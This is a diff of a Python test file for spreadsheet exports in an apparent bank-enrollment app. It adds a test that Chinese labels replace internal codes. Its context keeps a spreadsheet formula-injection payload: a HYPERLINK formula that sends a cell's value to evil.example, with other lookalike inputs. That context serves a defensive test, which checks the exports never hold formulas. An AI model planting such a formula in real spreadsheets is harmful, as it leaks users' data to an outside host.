@@ -11,6 +11,7 @@ from openpyxl import load_workbook
 from core.enrollment_sheets import StatisticsRow, statistics_xlsx
 from core.fake_members import HEADERS
 from core.workbooks import ROSTER_COLUMNS, errors_xlsx, roster_xlsx, template_xlsx
+from models.states import CardType, Gender, IdType
 
 EVIL = '=HYPERLINK("http://evil.example/?d="&B3,"x")'
 LOOKALIKES = [EVIL, "=1+1", "+86 139", "-2+3", "@SUM(A1:A9)", "\t=1", "\n=2", "普通文字", "=", ""]
@@ -51,3 +52,14 @@ def test_the_roster_and_the_statistics_never_carry_a_formula() -> None:
         assert all(t != "f" for r in stats for _, t in r)
     assert (EVIL, "s") in cells_of(statistics_xlsx("d", 2026, [line]))[2]
     assert all(t != "f" for r in cells_of(template_xlsx()) for _, t in r)
+
+
+def test_the_bank_roster_shows_chinese_labels_not_codes() -> None:
+    member = SimpleNamespace(**{key: "x" for _, key in ROSTER_COLUMNS})
+    member.id_type, member.gender, member.card_type = IdType.RESIDENT_ID, Gender.FEMALE, CardType.DEBIT
+    member.id_expiry, member.id_long_term = None, True
+    row = [text for text, _ in cells_of(roster_xlsx("B1", "u", "b", [member]))[2]]
+    keys = [k for _, k in ROSTER_COLUMNS]
+    assert row[keys.index("id_type")] == "居民身份证" and row[keys.index("gender")] == "女"
+    assert row[keys.index("card_type")] == "借记卡" and row[keys.index("id_expiry")] == "长期"
+    assert not {"resident_id", "female", "debit"} & set(row)
